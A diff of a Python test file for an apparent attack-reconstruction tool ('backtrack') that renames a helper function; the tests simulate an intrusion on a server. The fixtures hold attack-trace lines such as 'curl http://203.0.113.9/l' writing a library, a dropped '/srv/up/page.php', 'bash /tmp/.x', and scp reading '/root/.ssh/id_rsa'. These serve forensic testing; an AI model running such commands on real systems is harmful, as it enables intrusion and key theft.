@@ -15,7 +15,7 @@ OUTSIDE = ("203.0.113.9", 8443)
 NEW = O_WRONLY | O_CREAT | O_TRUNC
 
 
-def told(folder: Path, script: Script, command: str, *options: str) -> str:
+def story_of(folder: Path, script: Script, command: str, *options: str) -> str:
     """The story of the program with this command line, each part of it on one line."""
     store = ingested(folder / "s.db", [write_log(folder / "s.log", script.text())])
     code, output = run("backtrack", "--store", store, "--command", command, "--wide", *options)
@@ -57,7 +57,7 @@ def test_a_way_in_names_the_ports_on_which_the_server_listens(
     shop = server(script, *ports)
     shop.accepts(3, 9, PEER, 40_000)
     harm(shop)
-    assert expected in told(tmp_path, script, "^bash /tmp/.x$")
+    assert expected in story_of(tmp_path, script, "^bash /tmp/.x$")
 
 
 def test_a_copy_of_a_server_has_the_port_of_the_server(tmp_path: Path) -> None:
@@ -65,7 +65,7 @@ def test_a_copy_of_a_server_has_the_port_of_the_server(tmp_path: Path) -> None:
     worker = server(script, 8080).forks(150)
     worker.accepts(3, 9, PEER, 40_000)
     harm(worker)
-    story = told(tmp_path, script, "^bash /tmp/.x$")
+    story = story_of(tmp_path, script, "^bash /tmp/.x$")
     assert "through port 8080 of shopd (pid 150" in story
     assert f"{PEER}:40000 enters through port 8080 of shopd (uid 0)" in story
 
@@ -76,7 +76,7 @@ def test_a_port_that_is_opened_after_the_peer_came_in_is_not_the_one(tmp_path: P
     shop.accepts(3, 9, PEER, 40_000)
     harm(shop)
     shop.listens(4, "0.0.0.0", 9090)
-    assert "through port 8080 of shopd" in told(tmp_path, script, "^bash /tmp/.x$")
+    assert "through port 8080 of shopd" in story_of(tmp_path, script, "^bash /tmp/.x$")
 
 
 def test_a_server_is_told_by_what_it_began_after_the_peer_came_in(tmp_path: Path) -> None:
@@ -91,7 +91,7 @@ def test_a_server_is_told_by_what_it_began_after_the_peer_came_in(tmp_path: Path
     script.wait(60_000)
     shop.opens("/srv/dump", NEW, fd=11, created=True)
     shop.exits()
-    story = told(tmp_path, script, "^bash /tmp/.x$")
+    story = story_of(tmp_path, script, "^bash /tmp/.x$")
     assert "shopd → writes /srv/up/page.php" in story
     assert all(name not in story for name in ("/srv/state", "/srv/shop.log", "/srv/log/day", "/srv/dump"))
 
@@ -109,7 +109,7 @@ def test_a_library_that_a_program_of_the_story_wrote_is_told_where_it_is_loaded(
         shell.opens(name, fd=6)
         shell.call("mmap", 0, 4096, 5, 2, exit=0x7F00, records=(("MMAP", "fd=6 flags=0x2"),))
         shell.closes(6)
-    story = told(tmp_path, script, "^bash /tmp/.x$")
+    story = story_of(tmp_path, script, "^bash /tmp/.x$")
     assert "curl http://203.0.113.9/l → writes /srv/lib/libz.so.9" in story
     assert "libc.so.6" not in story
 
@@ -128,11 +128,11 @@ def test_the_ssh_of_an_scp_is_told_as_scp_and_settings_are_shown_short(tmp_path:
     transport.opens("/root/.ssh/id_rsa", fd=4)
     other = shell.forks(204)
     other.execs("/usr/bin/ssh", "/usr/bin/ssh", "-x", "-oPermitLocalCommand=no", "ops@10.0.0.8")
-    story = told(tmp_path, script, "^bash /tmp/.x$")
+    story = story_of(tmp_path, script, "^bash /tmp/.x$")
     assert "scp [settings] /tmp/a ops@10.0.0.7:b → reads /root/.ssh/id_rsa" in story
     assert "-s 10.0.0.7 sftp" not in story
     assert "/usr/bin/ssh [settings] ops@10.0.0.8" in story
-    assert "StrictHostKeyChecking=no" in told(tmp_path, script, "^bash /tmp/.x$", "--steps", "all")
+    assert "StrictHostKeyChecking=no" in story_of(tmp_path, script, "^bash /tmp/.x$", "--steps", "all")
 
 
 def test_the_path_names_the_programs_and_files_between_the_way_in_and_the_alert(tmp_path: Path) -> None:
@@ -150,5 +150,5 @@ def test_the_path_names_the_programs_and_files_between_the_way_in_and_the_alert(
     job.opens("/srv/jobs/refresh", fd=3)
     job.sockets(5)
     job.connects(5, *OUTSIDE)
-    story = told(tmp_path, script, "^bash /srv/jobs/refresh$")
+    story = story_of(tmp_path, script, "^bash /srv/jobs/refresh$")
     assert "Path       shopd > sh > /srv/jobs/refresh > bash /srv/jobs/refresh (started by timer)" in story
